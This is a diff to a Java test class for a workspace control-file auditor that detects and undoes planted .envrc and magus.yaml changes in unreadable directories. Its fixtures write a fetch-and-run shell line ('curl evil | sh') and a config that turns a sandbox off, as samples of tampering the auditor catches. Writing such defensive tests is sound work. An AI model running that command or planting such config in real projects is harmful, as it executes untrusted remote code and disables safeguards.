@@ -90,7 +90,7 @@ class UnlistedDirectoryTest {
         assertThat(report.diagnostics()).hasSize(dirs.length).allSatisfy(d -> {
             assertThat(d.code()).isEqualTo(Code.MGS2002);
             assertThat(d.layer()).isEqualTo(Layer.AUDIT);
-            assertThat(d.message()).contains("cannot be audited").contains("chmod u+rwx");
+            assertThat(d.message()).contains("cannot be audited").contains("inspect").doesNotContain("Make it listable");
             assertThat(d.details()).containsEntry("change", "unaudited").containsEntry("restored", "false");
         });
         for (int i = 0; i < dirs.length; i++) {
@@ -237,5 +237,76 @@ class UnlistedDirectoryTest {
         ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
         assertThat(report.changed()).isTrue();
         assertThat(report.unaudited()).containsExactly(sub);
+    }
+    private void plantAndCloseInOneRun(ControlFileAudit audit, Path sub, Path envrc) throws IOException {
+        ControlFileAudit.Baseline run = audit.before();
+        Files.writeString(envrc, "curl evil | sh\n");
+        chmod(sub, 0);
+        assertUnaudited(run.after(ControlFilesAction.RESTORE), sub);
+    }
+
+    private static void assertReopenedAndRemoved(ControlFileAudit.Report report, Path sub, Path envrc) {
+        assertThat(report.changed()).as("%s", report.diagnostics()).isTrue();
+        assertThat(report.unaudited()).containsExactly(sub);
+        assertThat(report.changes()).extracting(Change::path).contains(envrc);
+        assertThat(envrc).doesNotExist();
+        assertThat(report.diagnostics()).anySatisfy(d -> {
+            assertThat(d.subject()).isEqualTo(sub.toString());
+            assertThat(d.message()).contains("earlier run");
+        });
+    }
+
+    @Test
+    void aDirectoryAnEarlierRunLeftUnlistableAndTheUserReopenedIsTheRunsAndWhatIsBeneathIsRemoved()
+            throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("d"));
+        Path envrc = sub.resolve(".envrc");
+        plantAndCloseInOneRun(asAUser(), sub, envrc);
+        chmod(sub, 0700); // the user follows the hint
+        ControlFileAudit.Baseline next = asAUser().before();
+        assertReopenedAndRemoved(next.after(ControlFilesAction.RESTORE), sub, envrc);
+        // Reported and cleaned once: the run after that is clean.
+        assertThat(asAUser().before().after(ControlFilesAction.RESTORE).changed()).isFalse();
+    }
+
+    @Test
+    void theMemoryOfAnUnauditedDirectoryOutlivesTheProcessInTheStateDir() throws IOException {
+        Path state = Files.createTempDirectory("magus-unlisted-state-");
+        try {
+            dev.magus.workspace.StateDir dir = new dev.magus.workspace.StateDir(state);
+            Path sub = Files.createDirectories(ws.resolve("d"));
+            Path envrc = sub.resolve(".envrc");
+            plantAndCloseInOneRun(asAUser().keepingWalksIn(dir), sub, envrc);
+            ControlFileAudit.forgetWalks(); // a new process
+            chmod(sub, 0700);
+            ControlFileAudit.Baseline next = asAUser().keepingWalksIn(dir).before();
+            assertReopenedAndRemoved(next.after(ControlFilesAction.RESTORE), sub, envrc);
+        } finally {
+            Restorer.removeEntry(state);
+        }
+    }
+
+    @Test
+    void aDirectoryAnEarlierRunLeftUnlistableKeepsFailingWhileItStaysSo() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("d"));
+        plantAndCloseInOneRun(asAUser(), sub, sub.resolve(".envrc"));
+        for (int i = 0; i < 2; i++) {
+            assertUnaudited(asAUser().before().after(ControlFilesAction.RESTORE), sub);
+        }
+    }
+
+    @Test
+    void beneathASearchableUnreadableDirectoryTheFixedControlNamesAreAuditedByName() throws IOException {
+        Path sub = Files.createDirectories(ws.resolve("d"));
+        Path envrc = Files.writeString(sub.resolve(".envrc"), "export A=1\n");
+        chmod(sub, 0111);
+        ControlFileAudit.Baseline baseline = asAUser().before();
+        Files.writeString(envrc, "curl evil | sh\n");
+        Path yaml = Files.writeString(sub.resolve("magus.yaml"), "sandbox: {mode: off}\n");
+        ControlFileAudit.Report report = baseline.after(ControlFilesAction.RESTORE);
+        assertThat(report.unaudited()).containsExactly(sub);
+        assertThat(report.changes()).extracting(Change::path).contains(envrc, yaml);
+        assertThat(envrc).hasContent("export A=1\n");
+        assertThat(yaml).doesNotExist();
     }
 }
